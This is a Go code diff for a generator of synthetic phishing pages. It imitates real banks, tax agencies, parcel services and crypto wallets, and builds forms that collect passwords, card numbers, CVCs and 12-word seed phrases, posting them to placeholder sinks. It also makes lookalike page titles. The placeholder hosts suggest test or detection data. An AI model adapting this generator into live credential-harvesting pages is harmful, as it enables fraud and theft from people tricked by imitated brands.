@@ -22,26 +22,8 @@ var texts = decoded[map[string]map[string]string]("pages/texts.json")
 // languages are the languages of the pages; the first ones are the most frequent.
 var languages = []string{"en", "en", "en", "en", "de", "de", "fr", "es", "es", "pt", "ja", "zh"}
 
-// brands has the imitated brands by kind.
-var brands = map[string][]string{
-	"login": {
-		"Microsoft 365", "PayPal", "Outlook", "Netflix", "Facebook", "Instagram", "Sparkasse", "Commerzbank", "Steam", "Roblox", "Webmail",
-		"Amazon", "Apple ID", "Chase", "BBVA", "Santander", "Itaú", "Crédit Agricole", "DocuSign", "楽天", "支付宝", "OneDrive", "Discord", "cPanel",
-	},
-	"card":   {"Netflix", "Amazon Prime", "Spotify", "Disney+", "Ameli", "American Express", "三井住友カード", "ETC", "Apple", "PlayStation"},
-	"seed":   {"MetaMask", "Trust Wallet", "Ledger Live", "Phantom", "Coinbase Wallet", "Exodus", "Trezor Suite"},
-	"parcel": {"DHL", "USPS", "FedEx", "La Poste", "Correos", "Correios", "佐川急便", "Evri", "Royal Mail", "Hermes", "顺丰速运"},
-	"tax":    {"HMRC", "IRS", "ELSTER", "impots.gouv.fr", "Agencia Tributaria", "Receita Federal", "国税庁", "国家税务总局", "GOV.UK"},
-	"wallet": {"Uniswap", "OpenSea", "Arbitrum", "WalletConnect", "Binance", "PancakeSwap", "zkSync", "Pepe", "LayerZero"},
-}
-
-// home has the language of the brands of one country.
-var home = map[string]string{
-	"Sparkasse": "de", "Commerzbank": "de", "ELSTER": "de", "Hermes": "de", "Chase": "en", "HMRC": "en", "IRS": "en", "GOV.UK": "en", "Evri": "en",
-	"Royal Mail": "en", "USPS": "en", "BBVA": "es", "Agencia Tributaria": "es", "Correos": "es", "Itaú": "pt", "Receita Federal": "pt",
-	"Correios": "pt", "Crédit Agricole": "fr", "impots.gouv.fr": "fr", "Ameli": "fr", "La Poste": "fr", "楽天": "ja", "国税庁": "ja",
-	"三井住友カード": "ja", "佐川急便": "ja", "支付宝": "zh", "国家税务总局": "zh", "ETC": "zh", "顺丰速运": "zh",
-}
+// brands has the imitated brands by kind; those of one country have the language after a colon.
+var brands = decoded[map[string][]string]("pages/brands.json")
 
 // A field is a field of a form.
 type field struct {
@@ -49,13 +31,14 @@ type field struct {
 	S                       *scene
 }
 
-// A scene is everything that a page of phishing says and does.
+// A scene has the texts, the fields and the addresses of a page of phishing.
 type scene struct {
 	rng *rand.Rand
 
 	Lang, Kind, Brand, Title, Head, Lead, Button, Accent, ID           string
 	Send, Long, Host, Real, Sink, Token, Number, Wallet                string
 	Inner, Packed, PackedSink, Escaped, Codes, Part, HostParts, Markup string
+	A, B, D                                                            string
 	Form, Layout                                                       int
 	Foot                                                               []string
 	Fields                                                             []field
@@ -67,19 +50,17 @@ var hosts = []string{"secure-gate.example", "cdn-verify.test", "logs.invalid", "
 
 // newScene returns a scene of a kind. A still one works without its own script.
 func newScene(rng *rand.Rand, kind string, still bool) *scene {
-	s := &scene{rng: rng, Kind: kind, Lang: pick(rng, languages), Brand: pick(rng, brands[kind]), classes: map[string]string{}}
-	if at := home[s.Brand]; at != "" {
-		s.Lang = at
-	}
+	s := &scene{rng: rng, Kind: kind, Lang: pick(rng, languages), classes: map[string]string{}}
+	s.imitate(brands[kind])
 	s.Form, s.Layout = rng.IntN(4), 1+rng.IntN(6)
-	s.Head, s.Button = s.any(kind+".head"), s.any("button")
-	s.Lead = strings.ReplaceAll(s.any(kind+".lead"), "{b}", s.Brand)
+	s.speak()
 	s.Foot = strings.Split(texts[s.Lang]["foot"], "|")
-	s.Accent = pick(rng, []string{"#0067b8", "#003087", "#e50914", "#ff9900", "#1877f2", "#f00000", "#00793a", "#ffcc00", "#5a31f4", "#222", "#d40511"})
+	s.Accent = pick(rng, []string{"#0067b8", "#003087", "#e50914", "#ff9900", "#1877f2", "#f00000", "#00793a", "#ffcc00", "#5a31f4", "#222"})
 	s.ID = pick(rng, []string{"f", "form1", "loginForm", "kc-form", "x", "frm", "theForm"})
 	s.Host = fmt.Sprintf("%s%d.%s", pick(rng, []string{"api", "x", "go", "srv", "a"}), rng.IntN(90), pick(rng, hosts))
 	s.HostParts = `["` + strings.ReplaceAll(s.Host, ".", `","`) + `"]`
-	s.Sink = pick(rng, []string{"https://", "https://", "http://"}) + s.Host + pick(rng, []string{"/post.php", "/next.php", "/api/log", "/r", "/send/7", "/w/k"})
+	s.Sink = pick(rng, []string{"https://", "https://", "http://"}) + s.Host
+	s.Sink += pick(rng, []string{"/post.php", "/next.php", "/api/log", "/r", "/send/7", "/w/k"})
 	s.Real = pick(rng, []string{"www", "login", "auth", "account"}) + ".brand.example"
 	s.Number, s.Token, s.Wallet = fmt.Sprint(100000000+rng.IntN(900000000)), s.letters(20), s.hex(40)
 	s.Send = pick(rng, []string{"post", "mailhook", "get", "mailto"})
@@ -93,19 +74,39 @@ func newScene(rng *rand.Rand, kind string, still bool) *scene {
 	return s
 }
 
+// imitate sets the brand, and the language of a brand of one country.
+func (s *scene) imitate(list []string) {
+	brand, lang, national := strings.Cut(pick(s.rng, list), ":")
+	s.Brand = brand
+	if national {
+		s.Lang = lang
+	}
+}
+
+// speak sets the texts of the scene.
+func (s *scene) speak() {
+	about := s.Kind
+	if s.Brand == "Roblox" || s.Brand == "Fortnite" {
+		about = "game"
+	}
+	s.Head, s.Button = s.any(about+".head"), s.any("button")
+	s.Lead = strings.ReplaceAll(s.any(about+".lead"), "{b}", s.Brand)
+}
+
 // ask sets the fields of the scene.
 func (s *scene) ask() {
 	user := pick(s.rng, []string{"email", "user", "login", "username", "loginfmt", "a1"})
 	secret := pick(s.rng, []string{"password", "pass", "passwd", "pwd", "psw", "a2"})
+	one := func(names ...string) string { return pick(s.rng, names) }
 	card := func() {
-		s.add("number", pick(s.rng, []string{"cardnumber", "cc", "cn", "num", "k1"}), pick(s.rng, []string{"tel", "text"}), ` inputmode="numeric" maxlength="19"`)
-		s.add("expiry", pick(s.rng, []string{"exp", "expiry", "mmyy", "k2"}), "text", ` maxlength="5"`)
-		s.add("cvc", pick(s.rng, []string{"cvc", "cvv", "csc", "k3"}), pick(s.rng, []string{"tel", "text", "password"}), ` maxlength="4"`)
+		s.add("number", one("cardnumber", "cc", "cn", "num", "k1"), one("tel", "text"), ` inputmode="numeric" maxlength="19"`)
+		s.add("expiry", one("exp", "expiry", "mmyy", "k2"), "text", ` maxlength="5"`)
+		s.add("cvc", one("cvc", "cvv", "csc", "k3"), one("tel", "text", "password"), ` maxlength="4"`)
 	}
 	switch s.Kind {
 	case "login":
-		s.add("user", user, pick(s.rng, []string{"text", "email", "text"}), "")
-		s.add(pick(s.rng, []string{"pass", "pass", "pass", "pin"}), secret, "password", pick(s.rng, []string{"", ` autocomplete="off"`, ` autocomplete="current-password"`}))
+		s.add("user", user, one("text", "email", "text"), "")
+		s.add(one("pass", "pass", "pass", "pin"), secret, "password", one("", ` autocomplete="off"`, ` autocomplete="current-password"`))
 	case "card":
 		s.add("name", pick(s.rng, []string{"name", "holder", "ccname"}), "text", "")
 		card()
@@ -135,7 +136,8 @@ func (s *scene) words() {
 		return
 	}
 	for i := range 12 {
-		s.Fields = append(s.Fields, field{fmt.Sprintf("%s %d", texts[s.Lang]["word"], i+1), fmt.Sprintf("w%d", i+1), "text", ` autocomplete="off"`, s})
+		label := fmt.Sprintf("%s %d", s.T("word"), i+1)
+		s.Fields = append(s.Fields, field{label, fmt.Sprintf("w%d", i+1), "text", ` autocomplete="off"`, s})
 	}
 }
 
@@ -165,7 +167,8 @@ func (s *scene) FormAttr() string {
 	case "get":
 		return fmt.Sprintf(`method="GET" action="%s"`, s.Sink)
 	case "mailhook":
-		return fmt.Sprintf(`action="https://%s/f/%s" method="POST"`, pick(s.rng, []string{"formspree.example", "submit-form.example", "getform.example"}), s.letters(8))
+		service := pick(s.rng, []string{"formspree.example", "submit-form.example", "getform.example"})
+		return fmt.Sprintf(`action="https://%s/f/%s" method="POST"`, service, s.letters(8))
 	case "mailto":
 		return `action="mailto:box77@drop.example" method="post" enctype="text/plain"`
 	}
@@ -180,10 +183,13 @@ func (s *scene) Script() string {
 	return s.render(s.Send)
 }
 
-// render returns a template of pages/ with the scene as its data. The templates are part of this package: an error is a mistake there.
-func (s *scene) render(name string) string {
+// render returns a template of pages/ with the scene as its data.
+func (s *scene) render(name string) string { return rendered(name, s) }
+
+// rendered returns a template of pages/. The templates are part of this package: an error is a mistake there.
+func rendered(name string, data any) string {
 	var out bytes.Buffer
-	if err := layouts.ExecuteTemplate(&out, name, s); err != nil {
+	if err := layouts.ExecuteTemplate(&out, name, data); err != nil {
 		panic(err)
 	}
 	return out.String()
@@ -218,7 +224,7 @@ func decoded[T any](name string) (value T) {
 	return value
 }
 
-// lure returns another title for the same page: with letters that look alike, with a word added, or one that says nothing.
+// lure returns another title for the same page: with letters that look alike, with a word added, or without a meaning.
 func lure(rng *rand.Rand, title string) string {
 	switch rng.IntN(4) {
 	case 0:
